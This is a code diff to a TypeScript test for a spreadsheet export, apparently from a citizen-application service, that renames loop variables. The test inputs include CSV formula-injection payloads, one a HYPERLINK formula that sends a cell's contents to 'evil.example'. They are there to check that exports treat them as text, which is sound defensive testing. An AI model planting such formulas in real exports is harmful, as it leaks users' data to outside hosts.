@@ -91,9 +91,9 @@ test('what people write is a text to every spreadsheet, never a formula', async 
     '＝1+1',
     '=HYPERLINK("https://evil.example?"&A1,"x")',
   ]
-  for (const [nth, applicantName] of hostile.entries()) {
+  for (const [index, applicantName] of hostile.entries()) {
     const fields = { ...answers, applicantName, applicantVillage: 'a,b"c' }
-    await submitApplication(db, citizen, serviceId, { fields, submissionKey: `hostile ${nth}` })
+    await submitApplication(db, citizen, serviceId, { fields, submissionKey: `hostile ${index}` })
   }
   const { html } = await clerk.get(`${exported}?service=${serviceId}`)
   const lines = linesOf(html)
@@ -114,9 +114,11 @@ async function manyOf(count: number) {
     .where('applicationId', '=', one)
     .executeTakeFirstOrThrow()
   for (let at = 1; at < count; at += 250) {
-    const copies = Array.from({ length: Math.min(250, count - at) }, (_, nth) => ({
-      ...{ ...row, applicationId: `${service}-MANY-${at + nth}`, submissionKey: `many ${at + nth}` },
-      inboxKey: `1:${String(at + nth).padStart(6, '0')}`,
+    const copies = Array.from({ length: Math.min(250, count - at) }, (_, index) => ({
+      ...row,
+      applicationId: `${service}-MANY-${at + index}`,
+      submissionKey: `many ${at + index}`,
+      inboxKey: `1:${String(at + index).padStart(6, '0')}`,
     }))
     await db.insertInto('applications').values(copies).execute()
   }
